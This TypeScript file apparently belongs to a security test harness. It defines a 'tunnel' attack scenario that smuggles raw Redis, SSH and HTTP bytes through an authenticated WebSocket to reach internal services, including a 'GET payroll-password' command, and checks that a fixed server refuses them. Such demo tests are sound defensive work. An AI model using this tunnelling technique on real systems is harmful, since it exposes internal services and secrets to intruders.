import { DEMO_TOKEN } from '../../protocol/messages.ts';
import { type Attack, failed, type Scene, succeeded } from './attack.ts';
import { authenticated } from './support/authenticated.ts';
import { inWords } from './support/socket.ts';

/** Speaks other protocols through the WebSocket, to reach what only the server can reach. */
export const attack: Attack<'tunnel'> = {
  name: 'tunnel',
  async run(scene) {
    return scene.fixed ? refused(scene) : reachesInside(scene);
  },
};

async function reachesInside(scene: Scene) {
  const { target, note } = scene;
  const socket = await authenticated(scene, 'attacker', target.twin('/tunnel'), { token: DEMO_TOKEN });
  let answer = '';
  for (const command of ['PING', 'GET payroll-password']) {
    note('attacker', 'insideCommand', {});
    socket.send(Buffer.from(`${command}\r\n`));
    answer = inWords(await socket.next());
    note('twin', 'passedInside', {});
  }
  return answer.startsWith('$')
    ? succeeded('tunnel', {})
    : failed('tunnel', { count: 2, closing: JSON.stringify(answer) });
}

const openings = [
  ['insideCommand', 'PING\r\n'],
  ['insideSsh', 'SSH-2.0-OpenSSH_9.9\r\n'],
  ['insideHttp', 'GET /admin HTTP/1.1\r\nHost: intranet\r\n\r\n'],
] as const;

async function refused(scene: Scene) {
  const { target, note } = scene;
  const endings = new Set<string>();
  for (const [what, bytes] of openings) {
    const socket = await authenticated(scene, 'attacker', target.method('first-message'), {
      token: DEMO_TOKEN,
    });
    note('attacker', what, {});
    socket.send(Buffer.from(bytes));
    const event = await socket.next();
    if (event.type === 'message') return succeeded('tunnel', {});
    endings.add(inWords(event));
  }
  return failed('tunnel', { count: openings.length, closing: [...endings].join(', ') });
}
